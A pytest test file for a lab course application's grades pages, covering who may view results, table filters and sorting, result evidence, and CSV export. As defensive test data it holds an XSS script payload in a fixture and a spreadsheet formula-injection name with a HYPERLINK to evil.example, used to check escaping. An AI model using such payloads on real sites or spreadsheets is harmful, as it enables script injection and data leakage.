"""Everybody's results: who may see them, what the table says, the evidence behind a result, and the export."""

import csv
import io
import itertools
import re

import pytest

from app.exercises import loader
from app.progress import groups, labs, results
from app.progress import library as stored
from app.progress.models import Lab, Role
from app.web.templating import TEMPLATES

TEXT = (TEMPLATES / "author" / "skeleton.yaml").read_text()
_numbers = itertools.count()
_PASSED = {
    "name": "bee-on-the-node",
    "status": "passed",
    "points": 4,
    "possible": 4,
    "looked_for": {"text": "a pod on {node}", "facts": {"node": "node01"}},
    "found": {"text": "<script>alert({node})</script>", "facts": {"node": "node01"}},
    "where": None,
}
_FAILED = {**_PASSED, "status": "failed", "points": 0}
_BROKEN = {**_PASSED, "status": "fault", "points": 0}
_VERDICTS = {4: _PASSED, 0: _FAILED}


def record(site, person, name="graded-exercise", points=4, manifests="kind: Pod\n", verdict=None, seed=3):
    """A result as the lab would have recorded it."""
    exercise = loader.parse(TEXT.replace("name: my-exercise", f"name: {name}"))
    with site.database.session() as session:
        stored.record_version(session, exercise, origin="folder")
        lab = labs.add(
            session,
            Lab(
                id=f"graded-{next(_numbers)}",
                user_id=person.id,
                exercise_name=name,
                exercise_digest=exercise.digest,
                exercise_version=exercise.version,
                seed=seed,
                state=b"",
                start_state=b"",
                sim_anchor=0,
                wall_anchor=0,
            ),
        )
        new = results.NewResult(
            user_id=person.id,
            exercise_name=name,
            exercise_version=exercise.version,
            exercise_digest=exercise.digest,
            seed=seed,
            engine_version="0.1.0+kubernetes-1.35.7",
            kind="submit",
            points=points,
            possible=4,
            verdict=[verdict or _VERDICTS.get(points, {**_PASSED, "points": points})],
            manifests=manifests,
        )
        return results.add(session, lab.id, 0, new).id


@pytest.fixture
def exercise():
    """An exercise's name of this test's own: the application is shared."""
    return f"graded-{next(_numbers)}"


def rows(answer):
    """The table's rows: learner → cells as text, without marks."""
    found = {}
    for row in re.findall(r"<tr>(.*?)</tr>", answer.text, re.DOTALL):
        cells = [re.sub(r"<[^>]+>|\s+", " ", cell).strip() for cell in re.findall(r"<t[hd].*?</t[hd]>", row, re.DOTALL)]
        found[cells[0].split("  ")[0]] = cells[1:]
    return found


# Who may


@pytest.mark.parametrize("role", ["grader", "instructor", "administrator"])
@pytest.mark.parametrize("path", ["/grades", "/grades/export.csv"])
def test_graders_instructors_and_administrators_see_results(site, role, path):
    assert site.person(Role(role)).get(path).status_code == 200


@pytest.mark.parametrize("path", ["/grades", "/grades/export.csv", "/grades/learner/{id}", "/grades/result/{result}"])
def test_a_learner_sees_nobodys_results_here_not_even_their_own(site, owner, stranger, path, exercise):
    path = path.format(id=owner.id, result=record(site, owner, exercise))
    for person, status in ((owner, 403), (stranger, 403), (site.guest(), 403), (site.visitor(), 401)):
        answer = person.get(path)
        assert answer.status_code == status
        assert exercise not in answer.text


@pytest.mark.parametrize("path", ["/grades/learner/999999999", "/grades/result/999999999"])
def test_what_does_not_exist_is_not_found(grader, path):
    assert grader.get(path).status_code == 404


@pytest.mark.parametrize("path", ["/grades/learner/x", "/grades/result/-1e9"])
def test_a_number_that_is_none_is_no_page(grader, path):
    assert grader.get(path).status_code in {404, 422}


# The table


def test_the_table_has_the_best_result_and_the_sum(site, grader, owner, exercise):
    record(site, owner, exercise, points=4)
    record(site, owner, exercise, points=0)
    cells = rows(grader.get(f"/grades?exercise={exercise}"))[owner.name]
    assert cells[0] == "4"
    assert "4/4" in cells[1]


def test_it_shows_only_the_group_that_was_asked_for(site, grader, owner, stranger, exercise):
    for person in (owner, stranger):
        record(site, person, exercise)
    with site.database.session() as session:
        group = groups.create(session, f"Group of {exercise}")
        groups.join(session, owner.id, group.join_code)
    table = rows(grader.get(f"/grades?group={group.id}"))
    assert owner.name in table
    assert stranger.name not in table


def test_it_finds_a_learner_by_name(site, grader, owner, stranger, exercise):
    for person in (owner, stranger):
        record(site, person, exercise)
    table = rows(grader.get(f"/grades?q={owner.name.upper()}&exercise={exercise}"))
    assert owner.name in table
    assert stranger.name not in table


def test_it_is_sorted_as_asked(site, grader, exercise):
    least, most = site.person(name=f"a {exercise}"), site.person(name=f"b {exercise}")
    record(site, most, exercise, points=4)
    record(site, least, exercise, points=0)
    names = {least.name, most.name}

    def order(sort):
        return [name for name in rows(grader.get(f"/grades?exercise={exercise}&sort={sort}")) if name in names]

    assert order("name") == [least.name, most.name]
    assert order("points") == [most.name, least.name]
    assert order("last") == [least.name, most.name]
    assert order("nonsense") == [least.name, most.name]


def test_htmx_gets_the_table_alone(site, grader, owner, exercise):
    record(site, owner, exercise)
    answer = grader.get(f"/grades?exercise={exercise}", headers={"hx-request": "true"})
    assert answer.text.lstrip().startswith('<div id="grades">')
    assert owner.name in answer.text


def test_a_choice_without_results_says_what_to_do(grader):
    assert "No result fits this choice." in grader.get("/grades?exercise=never-tried").text


@pytest.mark.parametrize("query", ["group=x", "group=99999999999999999999", "group=-1", "page=-5", "q=%00", "q=%25"])
def test_strange_filters_are_no_fault(grader, query):
    assert grader.get(f"/grades?{query}").status_code == 200
    assert grader.get(f"/grades/export.csv?{query}").status_code == 200


# One learner, one result


def test_a_learners_page_has_first_last_and_best_and_all_results(site, grader, owner, exercise):
    numbers = [record(site, owner, exercise, points=points) for points in (0, 4, 2)]
    page = grader.get(f"/grades/learner/{owner.id}").text
    links = re.findall(r'href="/grades/result/(\d+)">(\d)/4<', page)
    assert links == [(str(numbers[0]), "0"), (str(numbers[2]), "2"), (str(numbers[1]), "4")]
    assert page.count("Details<span") == 3


def test_a_result_shows_its_evidence(site, grader, owner, exercise):
    number = record(site, owner, exercise, manifests="kind: Pod # <b>mine</b>\n", seed=42)
    page = grader.get(f"/grades/result/{number}").text
    for part in (
        "0.1.0+kubernetes-1.35.7",
        ">42<",
        "kind: Pod # &lt;b&gt;mine&lt;/b&gt;",
        "bee runs on node0",
        "passed",
    ):
        assert part in page
    assert "a pod on node01" in page
    assert "<script>alert" not in page


def test_a_check_that_failed_to_run_is_not_called_wrong(site, grader, owner, exercise):
    number = record(site, owner, exercise, points=0, verdict=_BROKEN)
    page = grader.get(f"/grades/result/{number}").text
    assert "not graded" in page
    assert "✗" not in page


def test_a_result_of_a_text_that_can_no_longer_be_read_is_still_shown(site, grader, owner, exercise, monkeypatch):
    number = record(site, owner, exercise)
    monkeypatch.setattr(loader, "parse", _unreadable)
    assert "bee-on-the-node" in grader.get(f"/grades/result/{number}").text


def _unreadable(text, source="exercise.yaml"):
    raise loader.ExerciseErrors([])


def test_what_a_guest_did_counts_for_the_account_they_sign_in_to(site, grader, guest, owner, exercise):
    record(site, guest, exercise)
    guest.post("/sign-in", {"name": owner.name, "password": owner.password})
    assert owner.name in rows(grader.get(f"/grades?exercise={exercise}"))


# The export


def read(answer):
    text = answer.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_export_is_a_csv_file_with_the_same_filters(site, grader, owner, stranger, exercise):
    record(site, owner, exercise, points=2)
    record(site, stranger, exercise)
    answer = grader.get(f"/grades/export.csv?exercise={exercise}&q={owner.name}")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="scores-\d{4}-\d\d-\d\d\.csv"', answer.headers["content-disposition"])
    (line,) = read(answer)
    assert (line["name"], line["exercise"], line["points"], line["possible"]) == (owner.name, exercise, "2", "4")
    assert b"\r\n" in answer.content
    assert answer.content.startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_no_cell_is_a_formula(site, grader, exercise, start):
    evil = site.person(name=f'{start}HYPERLINK("https://evil.example?{exercise}")')
    evil.post("/account", {"display_name": f"{start}1+1", "language": ""})
    record(site, evil, exercise)
    (line,) = read(grader.get(f"/grades/export.csv?exercise={exercise}"))
    assert line["name"].startswith(f"'{start}")
    assert line["display_name"] == f"'{start}1+1"
